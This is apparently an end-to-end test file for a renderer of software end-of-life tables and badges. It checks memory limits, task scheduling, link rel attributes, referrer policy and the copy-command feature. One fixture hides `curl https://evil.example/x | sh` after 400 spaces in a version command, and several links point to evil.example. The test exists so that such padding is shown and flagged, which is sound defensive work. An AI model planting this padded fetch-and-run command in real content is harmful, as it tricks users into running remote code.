// End to end: hostile inputs under the size limit (scripts/hostile.mjs) render or fail with a
// message, never trap, and leave the wasm holding at most 64 times the input (and 256 MiB);
// many <eol-table> elements render in separate tasks; links that leave the page carry `rel`;
// two inlined badges keep their own ids; Copy copies exactly what the card shows. Times are
// reported by `node scripts/hostile.mjs`, not asserted here.
import { test } from "node:test";
import assert from "node:assert/strict";
import { hostileInputs, renderIn } from "../../scripts/hostile.mjs";
import { blankPage, useDemo } from "./lib.mjs";

const demo = useDemo();
const MIB = 1024 * 1024;

test("hostile inputs render or say why, within their memory budget", async () => {
  for (const input of hostileInputs()) {
    const r = await renderIn(demo.browser, demo.server.url, input);
    assert.ok(r.ok || (r.message && !/unreachable|RuntimeError/.test(r.message)), `${input.name}: ${r.message}`);
    assert.ok(r.memory <= 256 * MIB, `${input.name}: ${r.memory} bytes of wasm memory`);
    assert.ok(r.memory <= 64 * input.source.length + 8 * MIB, `${input.name}: ${r.memory} bytes for ${input.source.length} of input`);
    if (input.options?.timeline) assert.ok(r.nodes < 20000, `${input.name}: ${r.nodes} elements`);
  }
});

/** A blank page on the demo server with the package loaded as `window.eol`. */
const blank = (context = {}) => blankPage(demo, { name: "bounded-test", context });

test("400 <eol-table> elements render in separate tasks", async () => {
  const { page, errors, close } = await blank();
  const counts = await page.evaluate(async () => {
    await import("/pkg/eol-table-element.js");
    const host = document.getElementById("host");
    for (let i = 0; i < 400; i++) {
      const el = document.createElement("eol-table");
      el.setAttribute("today", "2022-05-01");
      host.append(el);
    }
    const rendered = () => [...host.children].filter((el) => el.table).length;
    // A task the page marks urgent (as a click would be) runs between the renders, not after all
    // of them.
    const afterOneTask = await scheduler.postTask(rendered, { priority: "user-blocking" });
    await Promise.all([...host.children].map((el) => el.ready));
    return { afterOneTask, all: rendered() };
  });
  assert.equal(counts.all, 400);
  assert.ok(counts.afterOneTask < 400, `${counts.afterOneTask} rendered in the first task`);
  assert.deepEqual(errors, []);
  await close();
});

test("a long timeline draws its first 60 cycles, and Show all draws the rest", async () => {
  const { page, errors, close } = await blank();
  const source = ["title: Long", "releases:"];
  for (let i = 200; i > 0; i--) source.push(`- releaseCycle: "${i}"`, `  releaseDate: ${2000 + Math.floor(i / 10)}-01-01`, `  eol: ${2002 + Math.floor(i / 10)}-01-01`);
  await page.evaluate((source) => {
    window.table = window.eol.render(document.getElementById("host"), source, { today: "2022-05-01", timeline: true });
  }, source.join("\n") + "\n");
  const rows = () => page.locator(".eol-timeline .eol-tl-rows > g").count();
  assert.equal(await rows(), 60);
  assert.match(await page.locator(".eol-timeline__more").textContent(), /Showing the first 60 of 200 cycles/);
  await page.click(".eol-timeline__more button");
  assert.equal(await rows(), 200);
  assert.equal(await page.locator(".eol-timeline__more").count(), 0);
  assert.deepEqual(errors, []);
  await close();
});

test("off-site links carry rel, images send no referrer, badges keep their own ids, Copy copies what is shown", async () => {
  const { page, errors, close } = await blank({ permissions: ["clipboard-read", "clipboard-write"] });
  await page.route("https://links.example/**", (route) =>
    route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><rect width="2" height="2"/></svg>' }),
  );
  const command = `istioctl version${" ".repeat(400)}; curl https://evil.example/x | sh`;
  const source = `---
title: Links
versionCommand: ${JSON.stringify(command)}
releases:
  - releaseCycle: "4"
    eol: 2030-01-01
    latest: "4.0"
    link: "https://evil.example/x"
  - releaseCycle: "3"
    eol: 2030-01-01
    latest: "3.0"
    link: "/\\\\evil.example/x"
  - releaseCycle: "2"
    eol: 2030-01-01
    latest: "2.0"
    link: "//evil.example/x"
  - releaseCycle: "1"
    eol: 2030-01-01
    latest: "1.0"
    link: "/same-site/notes"
---

> [Links](https://links.example) ![logo](https://links.example/logo.png)
`;
  const report = await page.evaluate((source) => {
    window.table = window.eol.render(document.getElementById("host"), source, { today: "2022-05-01" });
    const links = [...document.querySelectorAll("#host tbody a")].map((a) => [a.getAttribute("href"), a.getAttribute("rel")]);
    const images = [...document.querySelectorAll("#host img")].map((img) => img.getAttribute("referrerpolicy"));
    const shown = document.querySelector("#host [data-command]").textContent;
    const badges = document.createElement("div");
    badges.innerHTML = window.eol.badgeSvg(null, { today: "2022-05-01", version: "1.12.4" }) + window.eol.badgeSvg(null, { today: "2022-05-01", version: "1.9.0" });
    document.body.append(badges);
    const ids = [...badges.querySelectorAll("[id]")].map((el) => el.id);
    return { links, images, shown, ids, globals: [typeof window.r, typeof window.s] };
  }, source);
  const rel = Object.fromEntries(report.links);
  assert.equal(rel["https://evil.example/x"], "noopener noreferrer");
  assert.equal(rel["/\\evil.example/x"], "noopener noreferrer");
  assert.equal(rel["//evil.example/x"], "noopener noreferrer");
  assert.equal(rel["/same-site/notes"], null);
  assert.ok(report.images.length > 0 && report.images.every((p) => p === "no-referrer"), report.images.join());
  assert.equal(new Set(report.ids).size, report.ids.length, `ids repeat: ${report.ids.join(" ")}`);
  assert.deepEqual(report.globals, ["undefined", "undefined"]);
  await page.click("#host [data-action=copy]");
  await page.locator("#host .eol-table__copied:text('Copied')").waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), report.shown);
  assert.equal(report.shown, command);
  const box = await page.locator("#host .eol-table__command pre").boundingBox();
  const tail = await page.evaluate(() => {
    const pre = document.querySelector("#host .eol-table__command pre");
    return { scroll: pre.scrollWidth, client: pre.clientWidth };
  });
  assert.ok(tail.scroll <= tail.client + 1, `the command overflows: ${JSON.stringify(tail)} in ${JSON.stringify(box)}`);
  const warnings = await page.evaluate((source) => window.eol.parseProduct(source, { today: "2022-05-01" }).warnings, source);
  assert.ok(warnings.some((w) => w.startsWith("the version command holds a long run of spaces")), warnings.join("\n"));
  await page.screenshot({ path: (await import("./lib.mjs")).screenshotPath("bounded-links-copy.png"), fullPage: true });
  assert.deepEqual(errors, []);
  await close();
});
